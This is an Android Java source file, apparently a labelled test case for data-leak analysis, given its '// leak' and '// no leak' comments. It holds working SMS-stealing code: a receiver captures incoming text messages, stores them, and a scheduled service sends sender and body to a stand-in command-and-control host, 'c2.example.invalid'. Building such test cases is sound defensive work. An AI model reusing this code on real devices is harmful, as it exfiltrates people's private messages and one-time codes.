package robbers;

import android.app.AlarmManager;
import android.app.PendingIntent;
import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import android.os.SystemClock;
import android.telephony.SmsMessage;
import java.io.BufferedReader;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.FileReader;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.io.Serializable;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;

/** What was stolen waits in files: objects that are written whole, and lines. */
public class Queue extends BroadcastReceiver {
    static class Item implements Serializable {
        final String from;
        final String text;
        final long when;

        Item(String from, String text, long when) {
            this.from = from;
            this.text = text;
            this.when = when;
        }
    }

    public void onReceive(Context context, Intent intent) {
        ArrayList<Item> items = new ArrayList<>();
        for (SmsMessage one : android.provider.Telephony.Sms.Intents.getMessagesFromIntent(intent)) {
            items.add(new Item(one.getOriginatingAddress(), one.getMessageBody(), one.getTimestampMillis()));
        }
        try (ObjectOutputStream out = new ObjectOutputStream(context.openFileOutput("q.bin", Context.MODE_PRIVATE))) {
            out.writeObject(items);
        } catch (Exception e) {
            abortBroadcast();
        }
        try (FileOutputStream out = new FileOutputStream(new File(context.getFilesDir(), "n.txt"), true)) {
            out.write(("seen " + items.size() + "\n").getBytes());
        } catch (Exception e) {
            abortBroadcast();
        }
        AlarmManager clock = (AlarmManager) context.getSystemService(Context.ALARM_SERVICE);
        PendingIntent up = PendingIntent.getService(context, 1, new Intent(context, Up.class).putExtra("n", items.size()), PendingIntent.FLAG_UPDATE_CURRENT);
        clock.set(AlarmManager.ELAPSED_REALTIME_WAKEUP, SystemClock.elapsedRealtime() + 60000, up);
    }

    public static class Up extends Service {
        public IBinder onBind(Intent intent) {
            return null;
        }

        @SuppressWarnings("unchecked")
        public int onStartCommand(Intent intent, int flags, int start) {
            final int count = intent.getIntExtra("n", 0);
            new Thread(() -> {
                try (ObjectInputStream in = new ObjectInputStream(openFileInput("q.bin"))) {
                    List<Item> items = (List<Item>) in.readObject();
                    OutputStream out = new URL("http://c2.example.invalid/q").openConnection().getOutputStream();
                    for (Item one : items) {
                        out.write((one.from + "=" + one.text).getBytes()); // leak
                    }
                    out.write(("n=" + count).getBytes()); // no leak
                    BufferedReader lines = new BufferedReader(new FileReader(new File(getFilesDir(), "n.txt")));
                    out.write(lines.readLine().getBytes()); // no leak
                    deleteFile("q.bin");
                } catch (Exception e) {
                    stopSelf();
                }
            }).start();
            return START_NOT_STICKY;
        }
    }
}
